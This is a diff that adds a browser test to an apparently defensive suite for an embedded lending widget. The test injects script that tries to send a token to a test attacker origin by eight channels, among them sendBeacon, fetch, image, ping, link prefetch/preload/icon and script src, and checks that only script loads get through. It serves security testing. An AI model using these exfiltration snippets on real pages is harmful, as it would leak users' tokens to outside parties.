@@ -238,6 +238,29 @@ describe('a frame with an attack in it', { timeout: 120_000 }, () => {
     await visiting(spy, async (page) => assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']));
   });
 
+  it('sends nothing to another origin, except the address of a script', async () => {
+    const WAYS = {
+      beacon: 'navigator.sendBeacon(at, "x")',
+      fetch: 'fetch(at).catch(() => undefined)',
+      image: 'new Image().src = at',
+      ping: 'Object.assign(document.createElement("a"), { href: "#", ping: at }).click()',
+      prefetch: 'link("prefetch")',
+      preload: 'Object.assign(link("preload"), { as: "fetch" })',
+      icon: 'link("icon")',
+      // Scripts of the vendor's may load others: 'strict-dynamic'. It takes no list of origins.
+      script: 'document.head.append(Object.assign(document.createElement("script"), { src: at }))',
+    };
+    const run = Object.entries(WAYS).map(([name, way]) => `{ const at = '${attacker.origin}/${name}?token'; ${way}; }`);
+    const link = `const link = (rel) => document.head.appendChild(Object.assign(document.createElement('link'), { rel, href: at }));`;
+    const ways = run.map((one) => one.replace('{ const', `{ ${one.includes('link(') ? link : ''} const`)).join('\n');
+    await visiting(`${script()} ${ways}`, async (page) => {
+      assert.deepEqual(await offersOf(page, 'frame'), ['Offers for token-1']);
+      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
+      const reached = Object.keys(WAYS).filter((name) => attacker.asked(`/${name}`) > 0);
+      assert.deepEqual(reached, ['script']);
+    });
+  });
+
   it('is not led to another origin by a base in the page’s HTML', async () => {
     const before = attacker.asked('/frames');
     const body = `<base href="${attacker.origin}/"><lending-widget></lending-widget>`;
